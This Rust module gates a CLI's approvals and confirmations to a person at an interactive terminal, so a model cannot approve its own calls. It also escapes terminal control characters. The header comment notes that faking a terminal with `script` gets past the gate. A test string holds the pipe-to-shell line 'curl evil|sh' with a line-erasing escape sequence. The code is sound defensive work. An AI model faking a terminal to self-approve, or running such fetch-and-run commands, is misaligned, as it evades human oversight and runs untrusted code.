//! A person at an interactive terminal: the CLI's one way to say yes.
//!
//! Approvals, `--yes`, printed login links and policy confirmations need a person. A process
//! with no terminal on stdin and stderr (an agent's shell, a script, a pipe) is not one, so
//! those commands refuse there and say where the person can decide instead. This stops a model
//! from approving its own calls through ordinary commands; a same-user process that sets out to
//! fake a terminal (`script`) can still get through, which docs/security.md says plainly.

use std::io::{BufRead, IsTerminal, Write};

use anyhow::bail;

/// Whether a person can answer here: stdin and stderr are both a terminal.
pub(crate) fn interactive() -> bool {
    std::io::stdin().is_terminal() && std::io::stderr().is_terminal()
}

/// Refuses `what` without an interactive terminal, with the reason and where to decide instead.
pub(crate) fn require_person(what: &str) -> anyhow::Result<()> {
    if interactive() {
        return Ok(());
    }
    bail!(
        "{what} needs a person at an interactive terminal, and this command has none (stdin and stderr are not a terminal, as in an agent's shell or a script). Decide in the Capabilities app, or run it yourself in a terminal; for calls that should never ask, set an allow policy there."
    )
}

/// Asks a yes/no question on stderr and reads the answer from stdin; anything but yes is no.
pub(crate) fn confirm(question: &str) -> anyhow::Result<bool> {
    require_person("Answering an approval")?;
    eprint!("{question} [y/N] ");
    std::io::stderr().flush()?;
    let mut answer = String::new();
    std::io::stdin().lock().read_line(&mut answer)?;
    Ok(matches!(answer.trim(), "y" | "Y" | "yes" | "Yes"))
}

/// `text` as it may be shown at a terminal when it comes from a file or a source someone else
/// wrote, on one line: control characters (a carriage return or an escape sequence could paint a
/// harmless line over the real one), bidi controls that reorder what is shown, and characters no
/// person can see appear escaped (`\r`, `\u{1b}`, `\u{202e}`), so what the person reads is what
/// runs (docs/tool-text.md).
pub(crate) fn printable(text: &str) -> String {
    capa_core::tool_text::visible_line(text).into_owned()
}

/// One argument of a command line as shown to a person: [`printable`], quoted when it holds a
/// space or nothing, so that where one argument ends is plain.
pub(crate) fn printable_arg(arg: &str) -> String {
    let shown = printable(arg);
    if shown.is_empty() || shown.contains(char::is_whitespace) || shown.contains('\'') {
        format!("'{}'", shown.replace('\'', "'\\''"))
    } else {
        shown
    }
}

#[cfg(test)]
mod printable_tests {
    use super::*;

    #[test]
    fn what_could_repaint_the_line_is_escaped() {
        assert_eq!(
            printable("curl evil|sh\r\u{1b}[2K npx ok"),
            "curl evil|sh\\r\\u{1b}[2K npx ok"
        );
        assert_eq!(printable("a\u{202e}b"), "a\\u{202e}b");
        assert_eq!(printable("naïve — ok"), "naïve — ok");
        assert_eq!(printable_arg("two words"), "'two words'");
        assert_eq!(printable_arg(""), "''");
        assert_eq!(printable_arg("plain"), "plain");
    }
}
